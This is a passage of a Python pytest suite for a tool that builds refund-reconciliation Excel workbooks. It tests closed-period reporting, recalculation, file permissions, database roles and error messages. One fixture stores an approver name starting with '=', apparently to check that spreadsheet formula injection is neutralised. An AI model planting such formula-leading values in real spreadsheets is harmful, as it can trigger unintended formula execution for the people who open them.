        and all(row[at[column]].value == value for column, value in wanted.items())
    )  # fmt: skip
    row[at[amount]].value += 10


def test_libreoffice_comes_to_the_values_that_are_stored(
    book: Workbook, recalculated: dict[str, Workbook]
) -> None:
    cells = [
        (sheet.title, cell.coordinate)
        for sheet in load_workbook(write_workbook(PERIOD))
        for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]  # fmt: skip
    found = recalculated[""]
    off = [at for at in cells if abs(found[at[0]][at[1]].value - book[at[0]][at[1]].value) > 0.004]
    assert len(cells) > 400 and off == []


@pytest.mark.parametrize("edit", EDITS)
def test_a_changed_amount_turns_a_check_red(recalculated: dict[str, Workbook], edit: str) -> None:
    left = {row["Check"]: row["EUR"] for row in _table(recalculated[edit]["Summary"], "Check")}
    assert left[EDITS[edit][3]] >= 10, left


def test_a_changed_document_is_red_where_the_proof_starts_from_it(recalculated: dict[str, Workbook]) -> None:
    red = [row["Off by"] for row in _table(recalculated["a document"]["Proof"]) if row["Off by"]]
    assert red == [-10]
    left = {row["Check"]: row["EUR"] for row in _table(recalculated["a document"]["Summary"], "Check")}
    assert left["Gaps less their classes"] == left["Opening to closing"] == 0


# --- Closed periods


# As the views of the close have them, for the columns that the workbook reads.
CLOSE = """
create table finance.period_status (period text, status text, is_first_open boolean, closed_at timestamptz,
    approver text, actor text, note text, publication_id bigint, business_date date);
create table finance.period_acts (act_id bigint, act text, period text, approver text, actor text, note text,
    acted_at timestamptz, publication_id bigint);
create table finance.refund_proof_as_reported (period text, entity text, currency text, position integer,
    line text, leg text, gap text, class text, label text, amount numeric(18, 2), own_amount numeric(18, 2),
    earlier_amount numeric(18, 2));
create table finance.refund_proof_as_restated (period text, entity text, currency text, position integer,
    restated_amount numeric(18, 2), difference numeric(18, 2));
create table finance.restatements (original_period text, subject text, entity text, currency text,
    group_key text, leg text, document_key text, document_type text, document_no text, component text,
    gap text, class text, reported_amount numeric(18, 2), restated_amount numeric(18, 2),
    difference numeric(18, 2), kind text, posted_periods text, publication_id bigint, file_name text,
    line_no bigint);
insert into finance.period_status values
    ('2025-12', 'closed', false, '2026-01-05 09:00Z', '=A. Controller', 'airflow:a', 'December', 7,
     '2026-01-04'),
    ('2026-01', 'open', true, null, null, null, null, null, null);
insert into finance.period_acts values
    (1, 'close', '2025-12', 'B. Hasty', null, 'too early', '2026-01-02 09:00Z', 5),
    (2, 'reopen', '2025-12', 'B. Hasty', 'system:hasty', 'a feed was missing', '2026-01-03 09:00Z', 6),
    (3, 'close', '2025-12', '=A. Controller', 'airflow:a', 'December', '2026-01-05 09:00Z', 7);
insert into finance.refund_proof_as_reported values
    ('2025-12', 'LEJ', 'EUR', 202, 'leg', 'M', null, '', 'Credit memos', 112.00, 100.00, 12.00);
insert into finance.refund_proof_as_restated values ('2025-12', 'LEJ', 'EUR', 202, 104.50, 4.50);
insert into finance.restatements values
    ('2025-12', 'document', 'LEJ', 'EUR', 'REQ:1', 'M', 'M:1', 'memo', 'CM1', 'tax', null, null,
     null, 4.50, 4.50, 'new', '2026-01', 9, 'erp_credit_memos_20260110.xml', 17),
    ('2025-12', 'gap', 'LEJ', 'EUR', 'REQ:1', null, null, null, null, null, 'E-M', 'TAX',
     4.50, 0, -4.50, 'changed', '2026-01', 9, null, null);
grant select on all tables in schema finance to reporter;
"""
CLOSED = (
    "period_status", "period_acts", "refund_proof_as_reported", "refund_proof_as_restated", "restatements",
)  # fmt: skip


@pytest.fixture()
def closed(books: Books) -> Iterator[None]:
    """December is closed, after it was closed too early; a memo of December came in January."""
    with connect("admin", autocommit=True) as connection:
        for name in CLOSED:
            connection.execute(f"drop view if exists finance.{name} cascade")
        connection.execute(CLOSE)
    yield
    with connect("admin", autocommit=True) as connection:
        for name in CLOSED:
            connection.execute(f"drop table finance.{name}")


def test_a_closed_period_says_who_closed_it_and_what_was_reported(closed: None, tmp_path: Path) -> None:
    found = load_workbook(write_workbook(PERIOD, tmp_path / "closed.xlsx"), data_only=True)
    said = [(row[0], row[1]) for row in found["Summary"].iter_rows(max_row=9, values_only=True)]
    assert ("Status", "CLOSED by =A. Controller on 2026-01-05 09:00, as of 2026-01-04, publication 7") in said
    assert ("Reopened", "2026-01-03 09:00 by B. Hasty (system:hasty): a feed was missing") in said
    (reported,) = _table(found["As reported"])
    assert [reported[n] for n in ("As reported", "Of the period, as restated", "Difference")] == [
        112,
        104.5,
        4.5,
    ]
    assert [(row["Leg or gap"], row["Difference"], row["File"]) for row in _table(found["Restatements"])] == [
        ("M", 4.5, "erp_credit_memos_20260110.xml"), ("E-M", -4.5, None),
    ]  # fmt: skip


def test_the_period_that_took_a_late_row_shows_it(closed: None, tmp_path: Path) -> None:
    found = load_workbook(write_workbook(SPOILT, tmp_path / "open.xlsx"), data_only=True)
    said = [(row[0], row[1]) for row in found["Summary"].iter_rows(max_row=9, values_only=True)]
    assert ("Status", "open; late rows of closed periods post to it") in said
    assert [row["Period"] for row in _table(found["Restatements"])] == [PERIOD, PERIOD]
    assert "The period is open" in str(found["As reported"]["A5"].value)


# --- The file


def test_only_its_owner_may_read_it(books: Books, tmp_path: Path) -> None:
    nightly, asked = write_workbook(PERIOD), write_workbook(PERIOD, tmp_path / "asked.xlsx")
    assert [oct(path.stat().st_mode & 0o777) for path in (nightly.parent, nightly, asked)] == [
        "0o700", "0o600", "0o600",
    ]  # fmt: skip
    assert [path.name for path in nightly.parent.iterdir() if path.name.startswith(".")] == []


def test_it_is_read_as_the_reporter(books: Books) -> None:
    with connect("admin", autocommit=True) as connection:
        connection.execute("revoke select on finance.refund_proof from reporter")
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            write_workbook(PERIOD)
    finally:
        with connect("admin", autocommit=True) as connection:
            connection.execute("grant select on finance.refund_proof to reporter")


def test_the_same_publication_gives_the_same_bytes(books: Books, tmp_path: Path) -> None:
    one, two = (write_workbook(PERIOD, tmp_path / f"{name}.xlsx").read_bytes() for name in ("one", "two"))
    assert one == two
    with connect("finance_reader") as connection:
        ((published_at,),) = connection.execute("select published_at from ops.publications").fetchall()
    created = load_workbook(tmp_path / "one.xlsx").properties.created
    assert created == published_at.astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)


def test_a_period_that_is_not_there_names_those_that_are(books: Books) -> None:
    with pytest.raises(WorkbookFailed, match=r"no period '2031-01'; there are 2025-09, 2025-10, .*2026-01$"):
        write_workbook("2031-01")


def test_a_period_without_documents_says_so_on_every_sheet(books: Books, tmp_path: Path) -> None:
    with connect("admin", autocommit=True) as connection:
        connection.execute("update ops.publications set business_date = '2026-02-01'")
    try:
        empty = load_workbook(write_workbook("2026-02", tmp_path / "empty.xlsx"))
    finally:
        with connect("admin", autocommit=True) as connection:
            connection.execute("update ops.publications set business_date = %s", [DAY])
    said = {sheet.title: {cell.value for row in sheet.iter_rows() for cell in row} for sheet in empty}
    assert "Nothing in this period." in said["Proof"]
    assert {row["Period"] for row in _table(empty["Documents"])}.isdisjoint({"2026-02"})
    assert "No exception in this period." in said["Exceptions"]
    assert "Nothing was open in this period." in said["Roll-forward"]


def test_what_does_not_fit_is_counted_and_the_proof_does_not_add_up_a_part(
    books: Books, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook_sheets, "ROWS_MOST", 30)
    found = load_workbook(write_workbook(PERIOD, tmp_path / "part.xlsx"))
    assert len(_table(found["Documents"])) == 25
    exceptions = [row["Entity"] for row in _table(found["Exceptions"])]
    assert len(exceptions) == 25 and exceptions[-1].startswith("LEFT OUT: this row and those after it")
    note = str(found["Documents"]["A3"].value)
    assert re.match(r"25 of \d+ rows; \d+ are LEFT OUT", note) and "refund_documents where period" in note
    assert not any(
        "Documents" in str(cell.value) for row in found["Proof"].iter_rows(min_row=5) for cell in row
        if cell.data_type == "f"
    )  # fmt: skip


def test_a_full_disk_leaves_the_last_workbook_and_says_what_to_do(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_workbook(PERIOD)
    before = path.read_bytes()

    def full(self: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sheets.Book, "close", full)
    with pytest.raises(WorkbookFailed, match=r"No space left.*revlog workbook 2025-12"):
        write_workbook(PERIOD)
    assert path.read_bytes() == before and [p for p in path.parent.iterdir() if p.name[0] == "."] == []
    with pytest.raises(NightFailed, match="What is published stays as it is"):
        stages.report(DAY.isoformat())


def test_a_folder_that_is_not_there_is_named(books: Books, tmp_path: Path) -> None:
    with pytest.raises(WorkbookFailed, match=r"can't be written to .*nowhere"):
        write_workbook(PERIOD, tmp_path / "nowhere" / "book.xlsx")


def test_a_nightly_folder_that_is_not_ours_is_named(
    books: Books, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(self: Path, mode: int) -> None:
        raise PermissionError(errno.EPERM, "Operation not permitted", str(self))

    monkeypatch.setattr(Path, "chmod", refused)
    with pytest.raises(WorkbookFailed, match=r"folder .*finance can't be made or closed to others"):
        write_workbook(PERIOD)
    assert write_workbook(PERIOD, tmp_path / "asked.xlsx").exists()


def test_a_night_writes_the_newest_two_periods_and_those_that_it_touched(books: Books) -> None:
    for path in workbook.folder().iterdir():
        if path.is_file():
            path.unlink()
    said, *paths = stages.report(DAY.isoformat()).splitlines()
    assert said == "4 pages and workbooks are written" and all(Path(path).is_file() for path in paths)
    assert _names() == ["refunds-2025-12.xlsx", "refunds-2026-01.xlsx", "scorecard.html"]
    with connect("admin", autocommit=True) as connection:
        connection.execute("update ops.publications set from_seq = 1")
    try:
        touched = {path.name for path in write_workbooks()}
    finally:
        with connect("admin", autocommit=True) as connection:
            connection.execute("update ops.publications set from_seq = 0")
    assert touched == {f"refunds-{p}.xlsx" for p in ("2025-09", "2025-10", "2025-11", "2025-12", "2026-01")}


def _names() -> list[str]:
    """Files that finance opens; the figures of each night lie in a folder beside them."""
    return sorted(path.name for path in (settings().var / "finance").iterdir() if path.is_file())


def test_the_command_writes_where_it_is_told(books: Books, tmp_path: Path) -> None:
    done = _command(PERIOD, "--to", str(tmp_path / "mine.xlsx"))
    assert (done.returncode, done.stdout.strip()) == (0, str(tmp_path / "mine.xlsx"))
    failed = _command("2031-01")
    assert failed.returncode == 1 and "there are 2025-09" in failed.stderr


def _command(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "revlog", "workbook", *arguments], cwd=ROOT, env=process_environment(),
        capture_output=True, text=True, check=False,
    )  # fmt: skip


def test_before_the_first_publication_there_is_nothing_to_write(fresh_database: Path) -> None:
    assert write_workbooks() == []
    with pytest.raises(WorkbookFailed, match="Nothing has been published yet"):
        write_workbook(PERIOD)
